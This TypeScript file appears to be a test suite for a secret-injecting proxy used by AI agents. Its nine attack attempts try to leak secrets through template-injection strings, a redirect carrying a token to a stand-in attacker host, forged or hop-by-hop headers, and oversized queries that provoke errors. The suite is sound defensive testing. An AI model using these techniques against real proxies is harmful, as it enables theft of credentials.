import { arrivedIf, type ProxyAttempt, request, secure, TOKEN } from '../plan/attempt';
import { type Allowed, ATTACKER, type Target } from '../plan/target';
import type { Arrival } from '../plan/wire';
import { group } from './group';

/** Secrets in an arrival that don't belong to the request it is. */
export const strayed = (arrival: Arrival, { allowed }: Target) => {
  const path = arrival.target.replace(/[?#].*/, '');
  const own = allowed.filter(
    (each) =>
      each.method === arrival.method &&
      arrival.host === each.host &&
      path.startsWith(each.path.replace(/[^/]*$/, '')),
  );
  return arrival.secrets.some(({ id }) => !own.some(({ secrets }) => secrets.includes(id)));
};

const ask = (target: Target, to: Allowed, headers: readonly string[], path = to.path) => [
  secure(target, to.host, request(to.method, path, to.host, { headers })),
];

const wantsWrite =
  (steps: (target: Target, write: Allowed) => ReturnType<ProxyAttempt['run']>): ProxyAttempt['run'] =>
  (target) =>
    target.write === undefined
      ? 'this policy has no rule that writes with a secret'
      : steps(target, target.write);

export const SECRETS = group(
  {
    group: 'secrets',
    law: 'SEC-2',
    heldBy: "a secret goes out under its own rules' requests and no others",
    mustFailIn: ['secrets'],
    through: arrivedIf(strayed),
  },
  [
    {
      id: 'S01',
      title: "the writing rule's secret with the reading rule",
      run: wantsWrite((target) => ask(target, target.read, ['X-Want: write'])),
    },
    {
      id: 'S02',
      title: "the reading rule's secret with a request that carries none",
      run: (target) => {
        const bare = target.allowed.find(({ secrets, signed }) => secrets.length === 0 && !signed);
        return bare === undefined ? 'this policy has no rule without a secret' : ask(target, bare, []);
      },
    },
    {
      id: 'S03',
      title: 'the names of the secrets and of their parameters in headers',
      run: (target) =>
        ask(
          target,
          target.read,
          target.policy.secrets.map(({ parameter }, index) => `X-Secret-${index}: ${parameter}`),
        ),
    },
    {
      id: 'S04',
      title: "the formatter's own words in a header",
      run: (target) => ask(target, target.read, ['X-Template: {{ .Value }}', 'X-Other: ${.Value}']),
    },
    {
      id: 'S05',
      title: "the formatter's own words in query and body",
      run: wantsWrite((target, write) => [
        secure(
          target,
          write.host,
          request(write.method, `${write.path}?q=%7B%7B.Value%7D%7D`, write.host, {
            body: '{"a":"{{ .Value }}"}',
          }),
        ),
      ]),
    },
    {
      id: 'S06',
      title: 'a secret sent to the attacker by a redirect',
      heldBy: 'redirects go back to the agent, and no rule names the host',
      mustFailIn: ['relay'],
      law: 'POL-1',
      run: (target) => [
        secure(
          target,
          target.read.host,
          request('GET', `${target.read.path}?lab=redirect:https://${ATTACKER}/${TOKEN}`, target.read.host),
        ),
        secure(target, ATTACKER, request('GET', `/${TOKEN}`, ATTACKER)),
      ],
      through: arrivedIf(({ host }) => host === ATTACKER),
    },
    {
      id: 'S07',
      title: "a value of the agent's own in the header that carries the secret",
      heldBy: 'the injected value takes the place of whatever the agent wrote',
      mustFailIn: ['relay'],
      run: (target) => {
        const header = headerOf(target);
        return header === undefined
          ? 'the reading rule carries no secret in a header'
          : ask(target, target.read, [`${header}: forged`]);
      },
      through: arrivedIf(({ secrets }, { read }) => read.secrets.length > 0 && secrets.length === 0),
    },
    {
      id: 'S08',
      title: 'the header that carries the secret twice, and as a hop-by-hop header',
      heldBy: 'the secret is set after the headers of the connection are dropped',
      mustFailIn: ['relay'],
      run: (target) => {
        const header = headerOf(target);
        return header === undefined
          ? 'the reading rule carries no secret in a header'
          : [
              secure(
                target,
                target.read.host,
                request('GET', target.read.path, target.read.host, {
                  headers: [`${header}: a`, `${header}: b`, `Connection: close, ${header}`],
                  keepAlive: true,
                }),
              ),
            ];
      },
      through: arrivedIf(({ secrets }, { read }) => read.secrets.length > 0 && secrets.length === 0),
    },
    {
      id: 'S09',
      title: 'a 100 KB query, so that an error might quote what was sent',
      heldBy: 'errors quote nothing; see the values that must never come back',
      mustFailIn: ['secrets'],
      run: (target) => ask(target, target.read, [], `${target.read.path}?${'q'.repeat(100_000)}`),
    },
  ],
);

function headerOf({ policy, read }: Target): string | undefined {
  return policy.secrets.find(({ parameter }) => read.secrets.includes(parameter))?.header;
}
